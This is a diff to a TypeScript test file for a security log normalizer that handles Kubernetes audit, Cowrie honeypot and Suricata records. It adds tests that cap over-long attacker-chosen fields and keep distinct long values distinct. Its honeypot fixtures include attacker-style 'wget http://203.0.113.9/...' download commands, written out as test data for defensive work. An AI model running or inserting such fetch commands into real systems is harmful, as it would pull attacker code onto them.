@@ -4,7 +4,7 @@ import { auditEvent, eventList, podObject } from "../../test/detector/fixtures/a
 import { cowrie } from "../../test/detector/fixtures/cowrieRecords.ts";
 import { eve } from "../../test/detector/fixtures/suricataRecords.ts";
 import { ingestFormats } from "./formats.ts";
-import { normalizeBatch } from "./normalizeBatch.ts";
+import { maxEventTextLength, normalizeBatch } from "./normalizeBatch.ts";
 
 const receivedAt = Date.parse("2024-06-01T00:00:00Z");
 const normalize = (format: string, body: string) => normalizeBatch(ingestFormats[format]!, body, { tenant: "default", receivedAt });
@@ -263,7 +263,9 @@ describe("records that cannot be stored as sent", () => {
     const long = normalize("k8s-audit", JSON.stringify({ ...base, auditID: "a".repeat(20_000), user: { username: "u" } }));
     expect(long.issues).toEqual([]);
     expect(long.events[0]!.id.length).toBeLessThan(200);
-    expect(long.events[0]!.k8s?.auditId).toBe("a".repeat(20_000));
+    // The event keeps it as every text: its first maxEventTextLength characters and a digest of the whole (so two audit
+    // IDs that differ stay different).
+    expect(long.events[0]!.k8s?.auditId).toMatch(new RegExp(`^a{${maxEventTextLength}}… \\(20000 characters, sha256 [0-9a-f]{32}\\)$`));
   });
 
   it("keeps two requests under one audit ID (the client chose it) as two events; a record sent again is the same event", () => {
@@ -286,5 +288,39 @@ describe("records that cannot be stored as sent", () => {
   it("counts NDJSON lines from the body as sent, blank lines before the first record included", () => {
     const body = `\n\n${JSON.stringify(event())}\n{not json\n`;
     expect(normalize("events", body).issues).toEqual([{ item: 1, line: 4, field: "(item)", message: expect.stringMatching(/^not valid JSON/) }]);
+  });
+});
+
+describe("text an attacker chooses", () => {
+  // A command typed into the honeypot, a login name, a URL or User-Agent sent to the API server: as long as a body allows.
+  // Events are kept whole in memory for detection (the SQLite cache is bounded by a count of events, not their size).
+  const huge = (c: string) => c.repeat(1_000_000);
+
+  it("is kept to maxEventTextLength characters per field, and two long texts that differ stay different", () => {
+    const s = { srcIp: "203.0.113.60", session: "long" };
+    const body = [
+      cowrie.command(s, 1, `wget http://203.0.113.9/${huge("A")}x`),
+      cowrie.command(s, 2, `wget http://203.0.113.9/${huge("A")}y`),
+      cowrie.loginSuccess(s, 3, huge("r"), huge("p")),
+      cowrie.command(s, 4, "uname -a"),
+    ].map((r) => JSON.stringify(r)).join("\n");
+    const { events, issues } = normalize("cowrie", body);
+    expect(issues).toEqual([]);
+    for (const e of events) expect(JSON.stringify(e).length).toBeLessThan(4 * maxEventTextLength);
+    const [x, y, login, short] = events;
+    expect(x!.command!.startsWith(`wget http://203.0.113.9/AAAA`)).toBe(true);
+    expect(x!.command!.length).toBeLessThanOrEqual(maxEventTextLength + 100);
+    // Distinct commands (or login names, or passwords: the spray rule counts them) stay distinct.
+    expect(x!.command).not.toBe(y!.command);
+    expect(login!.username!.length).toBeLessThanOrEqual(maxEventTextLength + 100);
+    expect(short!.command).toBe("uname -a");
+  });
+
+  it("is bounded in audit events too (request URI, User-Agent, object names), whoever sent the request", () => {
+    const record = { ...auditEvent(1, { user: "system:anonymous", verb: "get", requestURI: `/api/${huge("a")}`, code: 403 }), userAgent: huge("u") };
+    const { events, issues } = normalize("k8s-audit", JSON.stringify(record));
+    expect(issues).toEqual([]);
+    expect(JSON.stringify(events[0]).length).toBeLessThan(4 * maxEventTextLength);
+    expect(events[0]!.url!.startsWith("/api/aaaa")).toBe(true);
   });
 });
